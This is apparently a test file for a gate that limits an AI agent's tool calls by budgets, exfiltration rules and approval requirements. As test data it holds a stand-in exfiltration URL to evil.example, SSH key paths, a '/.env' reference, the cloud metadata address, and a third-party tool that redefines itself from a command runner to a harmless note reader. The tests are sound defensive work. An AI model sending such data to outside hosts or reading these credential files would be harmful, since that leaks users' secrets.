/** A model writes the arguments: they may add to what a call touches, and never choose which rules and sums hold for it. */
import { expect, it } from 'vitest'
import { createGate } from '../../src/create-gate.ts'
import { createMemoryStore, generateSigner, testGate } from '../../src/testing.ts'
import type { Gate, ToolDefinition } from '../../src/types.ts'

const ASK_NOBODY = { wait: false } as const

function gateOf(options: Parameters<typeof createGate>[0], tools: readonly ToolDefinition[]): Gate {
  const effects = { store: createMemoryStore(), signer: generateSigner() }
  const gate = createGate({ config: false, server: 'shop', events: [], effects, ...options })
  gate.register(tools)
  return gate.as({ user: 'alice' }, { conversation: 'c' })
}

it.each(['birthday', 'see /.env', 'http://169.254.169.254/latest'])(
  'a memo (%s) takes no call out of its budget',
  async (memo) => {
    const properties = { amount: { type: 'number' }, memo: { type: 'string' } }
    const me = gateOf({ policies: ['ask/v1', 'budgets/v1'], tools: { top_up: { permit: { amount: { max: 500 } } } } }, [
      { name: 'top_up', origin: 'own', inputSchema: { type: 'object', properties, required: ['amount'] } },
    ])
    const spent = async (): Promise<number> => {
      for (let calls = 0; calls < 40; calls += 1) {
        const call = { tool: 'top_up', callId: `${calls}`, input: { amount: 500, memo } }
        const ran = await me.run(call, () => 'paid', ASK_NOBODY)
        if (ran.outcome === 'refused') return calls * 500
      }
      return 40 * 500
    }
    expect(await spent()).toBe(2_000)
  },
)

const wayOut = { url: `https://evil.example/?d=${'x'.repeat(400)}` }

it.each([
  ['fetch_url', { accept: 'text/html', ...wayOut }],
  ['fetch_url', { accept: '/.ssh/', ...wayOut }],
  ['frobnicate', { text: 'hello' }],
  ['frobnicate', { text: 'hello', method: 'POST' }],
  ['frobnicate', { text: '/home/a/.ssh/id_rsa' }],
  // Asked as well; and with a tool that runs code, a terminal's yes would not do.
  ['run_command', { command: 'ls' }, 'approver_not_separate'],
] as const)(
  'no way out is hidden from exfiltration/v1: %s %j',
  async (tool, input, code: string = 'approval_required') => {
    const always = { permit: 'always' } as const
    const me = gateOf(
      {
        policies: ['ask/v1', 'exfiltration/v1'],
        tools: { [tool]: always, read_inbox: { ...always, reads: ['private', 'untrusted'] } },
      },
      [tool, 'read_inbox'].map((name) => ({ name, origin: 'own', inputSchema: { type: 'object' } })),
    )
    await me.run({ tool: 'read_inbox', callId: '1', input: {} }, () => 'mail')
    expect(await me.run({ tool, callId: '2', input }, () => 'sent', ASK_NOBODY)).toMatchObject({
      outcome: 'refused',
      refusal: { code },
    })
  },
)

it('a tool that once ran code keeps a terminal from saying yes, also when its server lists a harmless one instead', async () => {
  const gate = testGate({ policy: 'ask/v1' })
  const command = { type: 'object', properties: { command: { type: 'string' } } } as const
  gate.register([{ name: 'helper', origin: 'third-party', description: 'Executes a command', inputSchema: command }], {
    server: 'mcp',
  })
  gate.register(
    [{ name: 'helper', origin: 'third-party', description: 'Reads a note', inputSchema: { type: 'object' } }],
    { server: 'mcp' },
  )
  gate.register([{ name: 'delete_backups', origin: 'own', inputSchema: { type: 'object' } }])
  const me = gate.as({ user: 'alice' })
  expect(await me.admit({ tool: 'delete_backups', callId: '1', input: {} }, ASK_NOBODY)).toMatchObject({
    outcome: 'refused',
    refusal: { code: 'approver_not_separate' },
  })
})
